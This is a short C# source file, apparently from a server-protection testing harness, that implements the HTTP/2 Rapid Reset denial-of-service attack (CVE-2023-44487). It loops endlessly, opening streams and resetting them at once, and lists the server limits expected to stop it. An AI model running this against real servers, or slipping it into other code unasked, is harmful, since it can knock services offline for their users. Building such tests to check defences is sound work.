namespace Metering.Attacks;

/// <summary>
/// Opens a stream and takes it back at once, over and over: the server begins work for streams that never count against
/// its limit of streams. CVE-2023-44487; RFC 9113, section 10.5.
/// </summary>
internal sealed class RapidReset : Attack
{
    public override string Name => "rapid-reset";

    public override string Does => "streams opened and reset at once (CVE-2023-44487)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond", "StreamsPerConnection"];

    public override string Unit => "streams";

    public override double UnitsPerSecond => 20_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        byte[] headers = HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token);
        var batch = new FrameBatch();
        int stream = -1;
        while (true)
            await lane.SendAsync(connection, batch, most: 500, frames => frames.Headers(stream += 2, headers).Reset(stream));
    }
}
